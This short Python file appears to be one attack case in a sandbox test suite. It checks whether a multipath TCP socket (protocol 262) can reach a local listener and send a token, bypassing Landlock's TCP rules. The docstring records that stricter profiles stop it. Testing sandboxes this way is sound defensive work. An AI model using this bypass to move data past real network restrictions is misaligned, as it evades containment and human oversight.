"""Reaches a TCP listener over multipath TCP, which Landlock's rules for TCP do not cover.

Seen: the token arrives at the listener.
Stopped at: strict, standard.
Verdict: raised.
"""
import socket


def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.connect(("127.0.0.1", target.tcp))
        connection.sendall(target.token)
